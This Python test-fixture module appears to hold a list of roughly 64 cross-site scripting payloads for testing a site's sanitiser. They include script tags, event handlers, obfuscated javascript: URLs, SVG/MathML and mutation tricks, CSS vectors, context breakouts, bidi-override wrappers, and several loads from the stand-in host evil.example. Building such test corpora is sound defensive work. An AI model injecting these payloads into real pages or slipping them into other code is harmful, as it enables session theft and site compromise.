"""Markup an attacker (or a careless paste) could type into any text field.

Written for these tests: classic tags and handlers, script-capable URL schemes
in many spellings, SVG and MathML, malformed and nested markup, CSS, breakouts
from the contexts our pages put text in (attributes, JSON-LD, RSS), and
bidirectional-override tricks.
"""

PAYLOADS = [
    # Tags that run script
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x20type='text/javascript'>alert(2)</script>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<iframe src=javascript:alert(4)></iframe>",
    "<iframe srcdoc='<script>alert(5)</script>'></iframe>",
    "<object data='javascript:alert(6)'></object>",
    "<embed src='data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg=='>",
    "<base href='//evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(8)'>",
    "<link rel=import href=//evil.example/x.html>",
    "<form action=javascript:alert(9)><button>go</button></form>",
    # Event handlers
    "<img src=x onerror=alert(10)>",
    "<IMG SRC=x OnErRoR=alert(11)>",
    '<img src=x onerror="alert(12)"/>',
    "<body onload=alert(13)>",
    "<div onmouseover='alert(14)'>مرر هنا</div>",
    "<p onclick=alert(15)>انقر</p>",
    "<a href='#' onfocus=alert(16) autofocus>x</a>",
    "<details open ontoggle=alert(17)>",
    "<video><source onerror=alert(18)></video>",
    "<audio src=x onerror=alert(19)>",
    "<input autofocus onfocus=alert(20)>",
    "<marquee onstart=alert(21)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(22)>",
    "<img/src=x/onerror=alert(23)>",
    "<img src=x onerror\t=alert(24)>",
    # Script URL schemes, spelled every way
    "<a href='javascript:alert(25)'>رابط</a>",
    "<a href='JaVaScRiPt:alert(26)'>رابط</a>",
    "<a href=' javascript:alert(27)'>رابط</a>",
    "<a href='java\tscript:alert(28)'>رابط</a>",
    "<a href='java&#x09;script:alert(29)'>رابط</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(30)'>x</a>",
    "<a href='&#x6A;avascript:alert(31)'>x</a>",
    "<a href='javascript&colon;alert(32)'>x</a>",
    "<a href='vbscript:msgbox(33)'>x</a>",
    "<a href='data:text/html,<script>alert(34)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgzNSk8L3NjcmlwdD4='>x</a>",
    "<img src='javascript:alert(36)'>",
    "<img src='/media/%2e%2e/%2e%2e/admin/'>",
    "<a href='%6A%61%76%61%73%63%72%69%70%74:alert(37)'>x</a>",
    # SVG and MathML
    "<svg onload=alert(38)>",
    "<svg><script>alert(39)</script></svg>",
    "<svg><a xlink:href='javascript:alert(40)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(41) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(42)>",
    "<math href='javascript:alert(43)'>x</math>",
    # Malformed and nested markup
    "<<script>alert(44)//<</script>",
    '<img src="x" alt=""onerror=alert(45)>',
    '"><script>alert(46)</script>',
    "'><img src=x onerror=alert(47)>",
    '<!--<img src="--><img src=x onerror=alert(48)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(49)>">',
    "<textarea><script>alert(50)</script></textarea>",
    "<title><img src=x onerror=alert(51)></title>",
    # CSS
    "<style>body{background:url(javascript:alert(52))}</style>",
    "<p style='background-image:url(javascript:alert(53))'>x</p>",
    '<div style="width:expression(alert(54))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    # Breakouts from our own contexts
    "</script><script>alert(55)</script>",
    "</title><script>alert(56)</script>",
    '" autofocus onfocus="alert(57)',
    "]]><script>alert(58)</script>",
    "</description><script>alert(59)</script>",
    '{"@type": "</script><script>alert(60)</script>"}',
    "<!--</script><script>alert(61)</script>-->",
    # Bidirectional overrides and invisible characters around markup
    "\u202e<script>alert(62)</script>\u202c",
    "تحديث \u2066<img src=x onerror=alert(63)>\u2069 عاجل",
    "\u200f<a href='javascript:alert(64)'>رابط</a>\u200e",
]
